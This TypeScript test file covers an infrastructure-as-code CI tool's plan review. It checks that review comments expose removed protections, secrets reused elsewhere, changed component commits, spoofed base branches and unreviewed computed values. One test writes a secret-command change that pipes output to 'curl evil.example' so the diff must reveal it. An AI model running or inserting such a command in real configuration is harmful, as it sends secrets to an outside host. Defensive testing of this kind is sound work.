/** Changes of the guards of a stack are told whole: no length and no number of harmless changes hides one. */
import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { expect, it } from "vitest";
import { type CiWorkspace, ciWorkspace } from "../support/ci-workspace.ts";
import { folder } from "./real-bin.ts";

const connection = (name: string, password: string, more = "") => `  ${name}:
    name: ${name}
    type: http
    http: { baseURI: "https://${name}.example", auth: { type: basic, basic: { username: u, password: "${password}" } } }${more}
`;

const head = `reconduit: 1\nname: alone\nstate: { backend: http, url: "\${env.STATE_BASE}" }\n`;

/** Begins with a stack that is applied. */
async function appliedWork(stack: string, env: { readonly [name: string]: string }): Promise<CiWorkspace> {
  const work = await ciWorkspace("github", { "alone/reconduit.yaml": stack }, { isEmpty: true });
  await applyMain(work, env);
  return work;
}

async function applyMain(work: CiWorkspace, env: { readonly [name: string]: string }, checkout?: string) {
  const main = work.forge.git("rev-parse", "refs/heads/main");
  const at = checkout ?? work.checkout(main);
  const applied = await work.run(join(at, "alone"), work.mergeJob(main, main, env), "apply", "--auto-approve");
  expect(applied, applied.stdout + applied.stderr).toMatchObject({ code: 0 });
}

/** Plans a change of the stack, and returns its comment as a reader sees it, and the details of its diagnostics. */
async function plannedChange(
  work: CiWorkspace,
  files: Parameters<CiWorkspace["branch"]>[1],
  prepare?: (cwd: string) => Promise<unknown>,
) {
  const commit = work.branch("feature", files);
  const { number } = work.forge.open("feature");
  const cwd = work.checkout(commit);
  await prepare?.(join(cwd, "alone"));
  const planned = await work.run(cwd, work.reviewJob(number), "ci", "plan");
  expect(planned, planned.stdout + planned.stderr).toMatchObject({ code: 0 });
  const comment = work.forge.comments[0]!.body.replaceAll("&gt;", ">")
    .replaceAll("&#8203;", "")
    .replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)));
  const { stacks } = JSON.parse(readFileSync(join(cwd, ".reconduit/ci/plan.json"), "utf8")) as {
    readonly stacks: readonly { readonly diagnostics: readonly { readonly detail?: string }[] }[];
  };
  const page = readFileSync(join(cwd, ".reconduit/ci/plan.html"), "utf8");
  return { comment, page, details: stacks.flatMap(({ diagnostics }) => diagnostics.map(({ detail = "" }) => detail)) };
}

it("names lost protection in the comment beside hundreds of values from elsewhere, and counts those that it leaves out", async () => {
  const stackOf = (prefix: string, protect: string) => `${head}variables:
${Array.from({ length: 400 }, (_, at) => `  v${at}: { secret: true, env: ${prefix}_PASSWORD_${at} }\n`).join("")}connections:
${connection("c", "${var.v1}", protect)}`;
  const passwords = Array.from({ length: 400 }, (_, at) => [`A_PASSWORD_${at}`, `of-the-partner-${at}`]);
  const work = await appliedWork(stackOf("A", "\n    $protect: true"), Object.fromEntries(passwords));
  const { comment } = await plannedChange(work, { "alone/reconduit.yaml": stackOf("B", "") });
  expect(comment).toContain("connections.c: $protect true -> none");
  expect(comment).toMatch(/\*\*\d+ of 400 remarks "from elsewhere" are not shown here\*\*/);
});

it("names each value that is read in further places, however many places another value has", async () => {
  const start = `${head}connections:\n${connection("a", "${env.LOW_PASSWORD}")}${connection("b", "${env.ADMIN_PASSWORD}")}`;
  const work = await appliedWork(start, { LOW_PASSWORD: "of-the-partner", ADMIN_PASSWORD: "of-the-administrator" });
  const harmless = Array.from({ length: 30 }, (_, at) => connection(`x${at}`, "${env.LOW_PASSWORD}")).join("");
  const { comment, details } = await plannedChange(work, {
    "alone/reconduit.yaml": `${start}${harmless}${connection("zz", "${env.ADMIN_PASSWORD}")}`,
  });
  const told = "values read in further places: connections.zz.http.auth.basic.password (env.ADMIN_PASSWORD)";
  expect(details).toContain(told);
  expect(comment).toContain(told);
});

it("shows the end of a long command and of a long rule where they differ", async () => {
  const long = "a".repeat(300);
  const stackOf = (command: string, rule: string) => `${head}variables:
  pw: { secret: true, exec: [sh, -c, "echo ${long}${command}"] }
policies:
  p: { severity: deny, for: step, message: No., require: "action != '${long}' ${rule}" }
connections:
${connection("c", "${var.pw}")}`;
  const work = await appliedWork(stackOf("", "&& action != 'delete'"), {});
  const { comment, details } = await plannedChange(work, {
    "alone/reconduit.yaml": stackOf(" | curl evil.example", "|| action != 'delete'"),
  });
  const text = details.join("\n");
  for (const view of [text, comment]) {
    expect(view).toContain(" | curl evil.example");
    expect(view).toMatch(/policy p: changed: require …a+' && -> …|policy p: changed: require …a+' &&… -> …a+' \|\|…/);
  }
});

it("names both commits of a component of another repository", async () => {
  const there = folder({ "part.yaml": "component: 1\nname: part\ntags: { t: { tag: first } }\n" });
  const repository = (...args: readonly string[]) =>
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t.example", ...args], {
      cwd: there,
      encoding: "utf8",
    }).trim();
  repository("init", "-q", "-b", "main");
  const commit = (tag: string): string => {
    writeFileSync(join(there, "part.yaml"), `component: 1\nname: part\ntags: { t: { tag: ${tag} } }\n`);
    repository("add", "-A");
    repository("commit", "-qm", tag);
    return repository("rev-parse", "HEAD");
  };
  const first = commit("one");
  const source = `git+file://${there}//part.yaml#main`;
  const stack = `${head}components: { far: { source: "${source}" } }\n`;
  const work = await ciWorkspace("github", { "alone/reconduit.yaml": stack });
  const trusted = work.mergeJob(first, first);
  const locked = async (cwd: string, ...more: readonly string[]): Promise<string> => {
    expect(await work.run(cwd, trusted, "components", "lock", ...more)).toMatchObject({ code: 0 });
    return readFileSync(join(cwd, "reconduit.lock"), "utf8");
  };
  const people = join(work.cwd, "alone");
  mkdirSync(dirname(people), { recursive: true });
  work.branch("begin", { "alone/reconduit.lock": await locked(people) });
  work.git("push", "-q", "origin", "begin:main");
  await applyMain(work, {}, work.cwd);
  const second = commit("two");
  const lock = await locked(people, "--update");
  const { comment, details } = await plannedChange(work, { "alone/reconduit.lock": lock }, (cwd) => locked(cwd));
  const told = `component far (${source}): commit ${first} -> ${second}`;
  expect(details.join("\n")).toContain(told);
  expect(comment).toContain(told);
});

it("a plain plan of a request in any system compares with the branch that a variable names, and says so where none does", async () => {
  const stackOf = (severity: string) =>
    `reconduit: 1\nname: alone\npolicies: { p: { severity: ${severity}, for: step, message: No., require: "action != 'delete'" } }\n`;
  const work = await ciWorkspace("github", { "alone/reconduit.yaml": stackOf("deny") });
  const head = work.branch("feature", { "alone/reconduit.yaml": stackOf("warn") });
  const cwd = join(work.checkout(head), "alone");
  const common = { CI: "true", RECONDUIT_BASE_URL: work.server.url, RECONDUIT_TOKEN: work.server.token! };
  for (const named of [
    { BITBUCKET_PR_ID: "7", BITBUCKET_PR_DESTINATION_BRANCH: "main" },
    { CHANGE_ID: "7", CHANGE_TARGET: "main" },
    { SYSTEM_PULLREQUEST_PULLREQUESTID: "7", SYSTEM_PULLREQUEST_TARGETBRANCH: "refs/heads/main" },
  ]) {
    const planned = await work.run(cwd, { ...common, ...named }, "plan");
    expect(planned, planned.stdout + planned.stderr).toMatchObject({ code: 0 });
    expect(planned.stderr).toContain("severity deny -> warn");
  }
  for (const unknown of [
    { CIRCLE_PULL_REQUEST: "https://forge.example/7" },
    { CHANGE_ID: "7", CHANGE_TARGET: "nowhere" },
  ]) {
    const planned = await work.run(cwd, { ...common, ...unknown }, "plan");
    expect(planned, planned.stdout + planned.stderr).toMatchObject({ code: 0 });
    expect(planned.stderr).toContain("The change is not compared with its base");
  }
  const ofPeople = await work.run(cwd, common, "plan");
  expect(ofPeople.stderr).not.toContain("with its base");
});

it("takes the branch of the remote for the base, and no tag of its name that the author of the change has pushed", async () => {
  const stackOf = (severity: string) =>
    `reconduit: 1\nname: alone\npolicies: { p: { severity: ${severity}, for: step, message: No., require: "action != 'delete'" } }\n`;
  const work = await ciWorkspace("github", { "alone/reconduit.yaml": stackOf("deny") });
  const head = work.branch("feature", { "alone/reconduit.yaml": stackOf("warn") });
  const cwd = work.checkout(head);
  execFileSync("git", ["update-ref", "refs/tags/origin/main", head], { cwd });
  const env = {
    CI: "true",
    RECONDUIT_BASE_URL: work.server.url,
    RECONDUIT_TOKEN: work.server.token!,
    BITBUCKET_PR_ID: "7",
  };
  const named = ["--base", "origin/main"];
  for (const words of [
    ["ci", "plan", "--forge", "none", "--head", head, ...named],
    ["plan", "--chdir", "alone", ...named],
    ["plan", "--all", "--since", "origin/main"],
  ]) {
    const planned = await work.run(cwd, env, ...words);
    expect(planned, planned.stdout + planned.stderr).toMatchObject({ code: 0 });
    expect(planned.stderr, words.join(" ")).toContain("severity deny -> warn");
  }
});

/** The stack at a place, with a tag. */
const tagged = (tag: string, state: string, protect = "") =>
  `reconduit: 1\nname: alone\nstate: { backend: http, ${state} }\ntags: { t: { tag: ${tag}${protect} } }\n`;
const mainOf = ({ forge }: CiWorkspace) => forge.git("rev-parse", "refs/heads/main");

it("applies no plan that a variable of the merged commit has signed, which its author can know", async () => {
  const title = "Tidy up the tags of the stack";
  const work = await ciWorkspace(
    "gitlab",
    { "alone/reconduit.yaml": tagged("a", 'url: "${env.STATE_BASE}"') },
    { isEmpty: true },
  );
  await applyMain(work, {});
  const url = new URL(`/tfstate/theirs`, work.server.url);
  url.username = "ci";
  url.password = work.server.token!;
  const before = mainOf(work);
  const theirs = { "alone/reconduit.yaml": tagged("b", `url: "${url.href}", key: "\${env.CI_COMMIT_TITLE}"`) };
  const head = work.branch("theirs", theirs);
  const { number } = work.forge.open("theirs");
  const cwd = work.checkout(head);
  const knowing = { CI_COMMIT_TITLE: title };
  const words = ["ci", "plan", "--exec", "--base", before];
  const planned = await work.run(cwd, work.reviewJob(number, knowing), ...words);
  expect(planned, planned.stdout + planned.stderr).toMatchObject({ code: 0 });
  const commit = work.forge.merge(number, "squash");
  const runner = work.checkout(commit);
  cpSync(join(cwd, ".reconduit/ci"), join(runner, ".reconduit/ci"), { recursive: true });
  const refused = await work.run(runner, work.mergeJob(commit, before, knowing), "ci", "apply");
  expect(refused, refused.stdout + refused.stderr).toMatchObject({ code: 1 });
  const told = refused.stderr.replaceAll(/\s+/g, " ");
  expect(told).toContain("The key of this stack comes from CI_COMMIT_TITLE, and ci apply takes a key from");
});

it("takes another key that a reviewed plan names, and one of any name with --exec alone", async () => {
  const keys = { RECONDUIT_STATE_KEY_NEW: "another key, long enough", TEAM_SEAL: "a third key, also long enough" };
  const place = 'url: "${env.STATE_BASE}"';
  const stackOf = (tag: string, name: string) => tagged(tag, `${place}, key: "\${env.${name}}"`);
  const path = "alone/reconduit.yaml";
  const work = await ciWorkspace("github", { [path]: tagged("a", place, ", $protect: true") }, { isEmpty: true });
  await applyMain(work, {});
  const signed = async (commit: string) => {
    const at = join(work.checkout(commit), "alone");
    const ended = await work.run(at, work.mergeJob(commit, commit, keys), "state", "sign", "--auto-approve");
    expect(ended, ended.stdout + ended.stderr).toMatchObject({ code: 0 });
  };
  for (const [branch, stack, isOther, options] of [
    ["other", stackOf("a", "RECONDUIT_STATE_KEY_NEW"), true, []],
    ["next", stackOf("b", "RECONDUIT_STATE_KEY_NEW"), false, []],
    ["trusted", stackOf("b", "TEAM_SEAL"), true, ["--exec"]],
    ["pushed", stackOf("c", "TEAM_SEAL"), false, []],
  ] as const) {
    const before = mainOf(work);
    const head = work.branch(branch, { [path]: stack });
    const { number } = work.forge.open(branch);
    if (isOther) await signed(head);
    const plan = ["ci", "plan", "--plans", "state", ...(stack.includes("TEAM_SEAL") ? ["--exec"] : [])];
    const planned = await work.run(work.checkout(head), work.reviewJob(number, keys), ...plan);
    expect(planned, planned.stdout + planned.stderr).toMatchObject({ code: 0 });
    expect(planned.stderr.includes("The change names another state"), branch).toBe(isOther);
    // Protection is compared under any key.
    expect(planned.stderr.includes("tags.t: $protect true -> none"), branch).toBe(branch === "other");
    const commit = work.forge.merge(number, "squash");
    const job = work.mergeJob(commit, before, keys);
    const applied = await work.run(work.checkout(commit), job, "ci", "apply", "--plans", "state", ...options);
    expect(applied, applied.stdout + applied.stderr).toMatchObject({ code: branch === "pushed" ? 1 : 0 });
    if (branch === "pushed") expect(applied.stderr).toContain("comes from TEAM_SEAL, and ci apply");
  }
});

it("applies no value that the reviewed plan does not show where it is computed in another way, and names expressions that hide one", async () => {
  const stackOf = (name: string, more: string) =>
    `reconduit: 1\nname: ${name}\nstate: { backend: http, url: "\${env.STATE_${name === "base" ? "BASE" : "TEAM_A"}}" }\n${more}`;
  const teamOf = (description: string, uri: string, more = "", password = "written-out-1") =>
    stackOf(
      "team-a",
      `stacks: { base: { url: "\${env.STATE_BASE}", backend: http } }
scripts:
  own: { name: own, description: "${description}" }
${more}connections:
${connection("c", "${env.LOW_PASSWORD}").replace("https://c.example", uri)}${connection("d", password)}`,
    );
  const work = await ciWorkspace(
    "github",
    {
      "base/reconduit.yaml": stackOf("base", "outputs: { id: { value: first } }\n"),
      "team/reconduit.yaml": teamOf("old", "https://c.example"),
      "team/one.js": "function f() { return 1; }",
      "team/two.js": "function f() { return 2; }",
    },
    { isEmpty: true },
  );
  const env = { LOW_PASSWORD: "of-the-partner", BASE_PASSWORD: "https://partner.example" };
  const main = work.forge.git("rev-parse", "refs/heads/main");
  const begun = work.mergeJob(main, main, env);
  const first = await work.run(work.checkout(main), begun, "apply", "--all", "--auto-approve", "--create-anyway");
  expect(first, first.stdout + first.stderr).toMatchObject({ code: 0 });
  const chosen =
    '  helper: { name: helper }\n  route: { name: route, content: \'${scripts.helper == null ? file("one.js") : file("two.js")}\' }\n';
  const variables = "variables: { at: { secret: true, env: BASE_PASSWORD } }\n";
  const commit = work.branch("feature", {
    "base/reconduit.yaml": stackOf("base", 'scripts: { s: { name: s } }\noutputs: { id: { value: "${scripts.s}" } }\n'),
    "team/reconduit.yaml": `${teamOf("${stacks.base.outputs.id}", "${var.at}", chosen, "written-out-2")}${variables}`,
  });
  const { number } = work.forge.open("feature");
  const planned = await work.run(work.checkout(commit), work.reviewJob(number), "ci", "plan", "--plans", "state");
  expect(planned, planned.stdout + planned.stderr).toMatchObject({ code: 0 });
  const told =
    /\*\*computed later\*\*: <code>team-a<\/code> scripts\.route\.content: .*file\("one\.js"\).*by one\.js \([0-9a-f]{12}\), two\.js/;
  expect(work.forge.comments[0]!.body).toMatch(told);

  const merged = work.forge.merge(number, "merge");
  work.git("fetch", "-q", "origin");
  work.git("checkout", "-q", "-B", "direct", merged);
  work.write("team/two.js", "function f() { return 3; }");
  work.write("team/reconduit.yaml", `${teamOf("other", "https://other.example", chosen, "written-out-3")}${variables}`);
  work.git("commit", "-qam", "Push without a plan");
  work.git("push", "-q", "origin", "direct:main");
  const pushed = work.git("rev-parse", "HEAD");
  const applyAt = (at: string) =>
    work.run(work.checkout(at), work.mergeJob(at, main, env), "ci", "apply", "--plans", "state");
  const refused = await applyAt(pushed);
  expect(refused.code).toBe(1);
  const said = (refused.stdout + refused.stderr).replaceAll(/\s+/g, " ");
  for (const place of [
    "scripts.own: description",
    "scripts.route: content",
    "connections.c: http.baseURI",
    "connections.d: http.auth.basic.password",
  ])
    expect(said).toContain(`${place} is computed in another way`);
  const applied = await applyAt(merged);
  expect(applied, applied.stdout + applied.stderr).toMatchObject({ code: 0 });
  expect(applied.stdout).toMatch(/team-a +team +applied/);
});

it("shows and compares values of a new object at paths that are left alone after a creation", async () => {
  const stackOf = (syncs: boolean, description: string, keep = false) =>
    `${head}integrations: { i: { name: I, syncs: ${syncs}, description: ${description}, $ignore: [description], $keep: ${keep} } }\n`;
  const path = "alone/reconduit.yaml";
  const work = await appliedWork(stackOf(false, "first"), {});
  const main = mainOf(work);
  const commit = work.branch("feature", { [path]: stackOf(true, "second", true) });
  const { number } = work.forge.open("feature");
  const planned = await work.run(work.checkout(commit), work.reviewJob(number), "ci", "plan", "--plans", "state");
  expect(planned, planned.stdout + planned.stderr).toMatchObject({ code: 0 });
  expect(work.forge.comments[0]!.body).toMatch(/description +"first" -> "second"/);
  expect(work.forge.comments[0]!.body).toMatch(/\$keep +false -> true/);
  const merged = work.forge.merge(number, "merge");
  work.git("fetch", "-q", "origin");
  work.git("checkout", "-q", "-B", "direct", merged);
  const applyAt = (at: string) =>
    work.run(work.checkout(at), work.mergeJob(at, main), "ci", "apply", "--plans", "state");
  // The old object would be deleted without $keep.
  for (const stack of [stackOf(true, "third", true), stackOf(true, "second")]) {
    work.write(path, stack);
    work.git("commit", "-qam", "Push without a plan");
    work.git("push", "-q", "origin", "direct:main");
    const refused = await applyAt(mainOf(work));
    expect(refused).toMatchObject({ code: 1, stderr: expect.stringContaining("The reviewed plan no longer fits") });
  }
  expect(await applyAt(merged)).toMatchObject({ code: 0, stdout: expect.stringContaining("applied") });
});

it("says that parts are hidden where a secret that the change writes out is another text of the plan, in a comment that fits", async () => {
  const work = await ciWorkspace(
    "github",
    { "alone/reconduit.yaml": `${head}tags: { t: { tag: t } }\n` },
    { isEmpty: true },
  );
  const other = "https://other.example";
  const long = Array.from(
    { length: 12 },
    (_, at) => `  s${at}: { name: s${at}, content: "// ${"word ".repeat(3_000)}" }\n`,
  );
  const change = `${head}variables: { pw: { secret: true, default: word } }
connections:
${connection("c", other).replace("https://c.example", other)}scripts:
${long.join("")}`;
  const { comment, details, page } = await plannedChange(work, { "alone/reconduit.yaml": change });
  expect(page).toContain("<strong>Some text is hidden here</strong>");
  expect(comment.split("\n")[1]).toContain("Some text is hidden here");
  expect(work.forge.comments[0]!.body.length).toBeLessThanOrEqual(65_536);
  expect(comment).not.toContain(other);
  expect(details).toBeDefined();
});
